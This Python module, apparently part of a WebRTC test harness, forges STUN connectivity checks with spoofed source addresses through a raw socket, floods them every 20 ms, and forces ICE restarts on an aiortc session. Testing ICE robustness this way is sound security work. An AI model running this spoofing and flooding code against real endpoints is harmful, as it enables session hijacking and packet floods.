"""Sends connectivity checks of its own session with forged source addresses, through a raw socket.

The checks have valid integrity; only their source is forged. Needs root, and the namespace of the forging host.
"""

import asyncio
import secrets
import socket
import struct

from aioice import stun


class Forger:
    """Forges checks of the session of an aiortc client."""

    def __init__(self, client):
        connection = client.pc.sctp.transport.transport._connection
        self.client, self.sent, self.tasks = client, 0, []
        self.local, self.remote, self.password = (
            connection.local_username, connection.remote_username, connection.remote_password)
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def check(self):
        message = stun.Message(message_method=stun.Method.BINDING, message_class=stun.Class.REQUEST)
        message.attributes["USERNAME"] = f"{self.remote}:{self.local}"
        message.attributes["PRIORITY"] = 1845501695
        message.attributes["ICE-CONTROLLING"] = secrets.randbits(64)
        message.attributes["USE-CANDIDATE"] = None
        message.add_message_integrity(self.password.encode())
        return bytes(message)

    async def is_answered(self, runner):
        """Returns whether the runner answers such a check from this host's own address."""
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as plain:
            plain.setblocking(False)
            loop = asyncio.get_running_loop()
            await loop.sock_sendto(plain, self.check(), tuple(runner))
            while True:
                answer = await asyncio.wait_for(loop.sock_recv(plain, 2048), 20)
                if answer[:2] == b"\x01\x01":
                    return True

    def send(self, source, runner):
        """Sends one check with a foreign source address and port."""
        contents = self.check()
        udp = struct.pack("!4H", source[1], runner[1], 8 + len(contents), 0)
        head = struct.pack(
            "!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0,
            socket.inet_aton(source[0]), socket.inet_aton(runner[0]))
        self.raw.sendto(head + udp + contents, (runner[0], 0))
        self.sent += 1

    async def flood(self, source, runner, seconds):
        """Sends one check every 20 ms, and one from another port of the same host."""
        for number in range(seconds * 50):
            self.send(source, runner)
            self.send((source[0], 20_000 + number), runner)
            await asyncio.sleep(0.02)

    async def restart_ice(self):
        """Restarts ICE by an offer with new credentials."""
        self.local, password = secrets.token_hex(4), secrets.token_hex(16)
        lines = []
        for line in self.client.pc.localDescription.sdp.splitlines():
            if line.startswith("a=ice-ufrag:"):
                line = f"a=ice-ufrag:{self.local}"
            elif line.startswith("a=ice-pwd:"):
                line = f"a=ice-pwd:{password}"
            lines.append(line + "\r\n")
        body = {"sdp": "".join(lines), "type": "offer", "pc_id": self.client.pc_id, "restart_pc": False}
        status, reply = await self.client.runner.fetch("POST", self.client.path, body)
        assert status == 200, (status, reply)
        values = dict(line[2:].split(":", 1) for line in reply["sdp"].splitlines() if line.startswith("a=ice-") and ":" in line)
        assert values["ice-ufrag"] != self.remote, "no restart"
        self.remote, self.password = values["ice-ufrag"], values["ice-pwd"]
